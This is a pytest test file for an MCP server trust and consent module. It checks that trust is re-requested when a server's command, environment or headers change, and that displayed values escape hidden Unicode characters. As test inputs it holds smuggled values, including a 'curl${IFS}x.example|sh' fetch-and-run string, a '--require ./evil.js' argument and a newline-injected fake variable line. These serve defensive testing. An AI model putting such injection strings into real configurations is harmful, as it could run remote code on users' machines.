"""Trust is given once, to what was shown, and asked for again when that changes."""

from __future__ import annotations

import stat
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from kosmo_kernel.errors import SettingsError, UntrustedError
from kosmo_kernel.mcp import Server, Trust
from kosmo_kernel.mcp.trust import consent_lines, fingerprint
from kosmo_kernel.safety.text import escape_hidden

SERVER = Server(
    name="ledger",
    path=Path("/project/.mcp.json"),
    root=Path("/project"),
    of_project=True,
    command="ledger-server",
    args=("--book", "the blue one"),
    env={"LEDGER_KEY": "open-sesame-42", "BOOK": "${BOOK:-main}"},
)

HIDDEN = ["\u202e", "\u2066", "\u200b", "\ufeff", "\u00ad", "\U000e0041", "\u2028", "\ufe0f", "\u3164", "\u05d0"]


def test_trust_is_kept_for_the_next_session(tmp_path: Path) -> None:
    trust = Trust(tmp_path / "settings")
    assert trust.status(SERVER) == "untrusted"
    trust.trust(SERVER)
    assert Trust(tmp_path / "settings").status(SERVER) == "trusted"
    Trust(tmp_path / "settings").require(SERVER)
    assert trust.untrust(SERVER)
    assert not trust.untrust(SERVER)
    assert trust.status(SERVER) == "untrusted"


def test_a_server_of_the_users_own_file_needs_no_trust(tmp_path: Path) -> None:
    assert Trust(tmp_path).status(replace(SERVER, of_project=False)) == "trusted"


@pytest.mark.claim("mcp-trust")
@pytest.mark.parametrize(
    "change",
    [
        {"command": "other"},
        {"args": ("--book", "the red one")},
        {"args": ("--book the blue one",)},
        {"cwd": "elsewhere"},
        {"env": {"LEDGER_KEY": "open-sesame-42"}},
        {"env": {**SERVER.env, "NEW": "x"}},
        {"env": {**SERVER.env, "BOOK": "${HEROKU_API_KEY}"}},
        {"env": {**SERVER.env, "BOOK": "main"}},
        {"url": "https://example.com/mcp"},
        {"headers": {"Authorization": "Bearer ${TOKEN}"}},
    ],
)
def test_a_change_of_what_would_run_is_asked_about_again(tmp_path: Path, change: dict[str, Any]) -> None:
    trust = Trust(tmp_path)
    trust.trust(SERVER)
    changed = replace(SERVER, **change)
    assert trust.status(changed) == "changed"
    with pytest.raises(UntrustedError, match="has changed since you trusted it, so it was not started"):
        trust.require(changed)


@pytest.mark.parametrize(
    "name", ["LEDGER_KEY", "LD_PRELOAD", "PYTHON_KEYRING_BACKEND", "AWS_SHARED_CREDENTIALS_FILE", "SESSION", "MODE"]
)
@pytest.mark.parametrize("field", ["env", "headers"])
def test_a_new_value_of_any_variable_or_header_is_a_change(name: str, field: str) -> None:
    one, other = ("\ud800", "two") if name == "SESSION" else ("one", "two")
    before: dict[str, Any] = {field: {name: one}}
    after: dict[str, Any] = {field: {name: other}}
    first = replace(SERVER, **before)
    assert fingerprint(first) != fingerprint(replace(SERVER, **after))
    assert fingerprint(first) == fingerprint(replace(first, timeout=5.0))


def test_another_projects_server_of_the_same_name_is_another_one(tmp_path: Path) -> None:
    trust = Trust(tmp_path)
    trust.trust(SERVER)
    assert trust.status(replace(SERVER, root=Path("/elsewhere"))) == "untrusted"


def test_only_the_owner_can_read_the_agreements(tmp_path: Path) -> None:
    trust = Trust(tmp_path / "settings")
    trust.trust(SERVER)
    assert stat.S_IMODE(trust.path.stat().st_mode) == 0o600
    assert stat.S_IMODE(trust.path.parent.stat().st_mode) == 0o700
    assert "sesame" not in trust.path.read_text()


@pytest.mark.claim("mcp-consent")
def test_what_would_run_is_shown_as_it_is_written() -> None:
    assert consent_lines(replace(SERVER, cwd="tools")) == [
        'ledger-server --book "the blue one"',
        "in tools",
        "variable LEDGER_KEY = open-sesame-42",
        "variable BOOK = ${BOOK:-main}",
    ]


@pytest.mark.claim("mcp-consent")
def test_what_would_be_asked_is_shown_as_it_is_written() -> None:
    headers = {"Authorization": "Bearer ${LEDGER}", "X-Team": "blue"}
    server = replace(SERVER, command="", args=(), env={}, url="https://x.example/${TEAM}?a=1", headers=headers)
    assert consent_lines(server) == [
        "https://x.example/${TEAM}?a=1",
        'header Authorization = "Bearer ${LEDGER}"',
        "header X-Team = blue",
    ]


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("--require ./evil.js", '"--require ./evil.js"'),
        ("", '""'),
        (" a", '" a"'),
        ("a\nvariable MODE = safe", '"a\\nvariable MODE = safe"'),
        ("key=1;curl${IFS}x.example|sh", "key=1;curl${IFS}x.example|sh"),
    ],
)
def test_a_value_cannot_be_taken_for_another_line_or_word(value: str, shown: str) -> None:
    assert consent_lines(replace(SERVER, env={"API_KEY": value}))[1:] == [f"variable API_KEY = {shown}"]


@pytest.mark.claim("mcp-consent")
@pytest.mark.parametrize("hidden", HIDDEN)
@pytest.mark.parametrize("place", ["command", "args", "cwd", "name", "value", "header", "url"])
def test_no_character_of_what_is_shown_is_hidden(place: str, hidden: str) -> None:
    text = f"a{hidden}b"
    changes: dict[str, dict[str, Any]] = {
        "command": {"command": text},
        "args": {"args": ("x y" + text,)},
        "cwd": {"cwd": text},
        "name": {"env": {text: "1"}},
        "value": {"env": {"LD_PRELOAD": text}},
        "header": {"headers": {"X-Team": text}},
        "url": {"url": f"https://{text}.example"},
    }
    shown = "\n".join(consent_lines(replace(SERVER, **changes[place])))
    assert hidden not in shown
    assert f"a{escape_hidden(hidden)}b" in shown


@pytest.mark.parametrize("text", ["", "{}", "[]", '{"trusted": 3}', "{"])
def test_a_damaged_file_trusts_nobody_and_is_named(tmp_path: Path, text: str) -> None:
    trust = Trust(tmp_path)
    trust.path.write_text(text)
    with pytest.raises(SettingsError, match=r"mcp-trust\.json is damaged"):
        trust.require(SERVER)


def test_the_settings_folder_is_where_the_user_says(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("KOSMO_CONFIG_DIR", str(tmp_path / "here"))
    assert Trust().path == tmp_path / "here" / "mcp-trust.json"
    monkeypatch.delenv("KOSMO_CONFIG_DIR")
    assert Path.home() in Trust().path.parents
